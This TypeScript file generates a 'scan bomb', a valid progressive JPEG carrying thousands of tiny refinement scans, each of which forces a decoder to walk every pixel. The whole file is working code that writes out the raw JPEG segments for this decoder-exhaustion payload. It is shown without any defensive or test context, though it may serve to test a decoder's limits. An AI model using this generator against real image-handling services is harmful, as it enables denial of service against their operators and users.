const COMPONENTS = [1, 2, 3];
const COEFFICIENTS = 63;
const MAX_SHIFT = 13;
/** Blocks that one code of 15 bits skips. */
const RUN = 2 ** 14;
const RUN_BITS = 15;

function segment(marker: number, ...body: number[]): Buffer {
  const length = body.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...body]);
}

/** Builds a table with one code, `0`. */
const table = (id: number, symbol: number): Buffer => segment(0xc4, id, 1, ...Array<number>(15).fill(0), symbol);
const zeros = (bits: number): Buffer => Buffer.alloc(Math.ceil(bits / 8));

function frame(side: number): Buffer {
  const components = COMPONENTS.flatMap((id) => [id, 0x11, 0]);
  return segment(0xc2, 8, side >> 8, side & 0xff, side >> 8, side & 0xff, COMPONENTS.length, ...components);
}

/** Each refines one coefficient of one component by one bit. */
function* scansOf(blocks: number): Generator<Buffer> {
  const first = segment(0xda, COMPONENTS.length, ...COMPONENTS.flatMap((id) => [id, 0]), 0, 0, 0);
  yield Buffer.concat([first, zeros(COMPONENTS.length * blocks)]);
  const content = zeros(Math.ceil(blocks / RUN) * RUN_BITS);
  for (let shift = MAX_SHIFT; shift >= 0; shift -= 1) {
    const bits = shift === MAX_SHIFT ? shift : ((shift + 1) << 4) | shift;
    for (let at = 1; at <= COEFFICIENTS; at += 1) {
      for (const id of COMPONENTS) yield Buffer.concat([segment(0xda, 1, id, 0, at, at, bits), content]);
    }
  }
}

/** A gray progressive JPEG that is valid, with as many scans as wanted, 2,647 at most: a decoder looks at all pixels in each. */
export function scanBomb(side: number, scans: number): Buffer {
  const head = [Buffer.of(0xff, 0xd8), segment(0xdb, 0, ...Array<number>(64).fill(1)), frame(side), table(0x00, 0), table(0x10, 0xe0)];
  return Buffer.concat([...head, ...[...scansOf(Math.ceil(side / 8) ** 2)].slice(0, scans), Buffer.of(0xff, 0xd9)]);
}
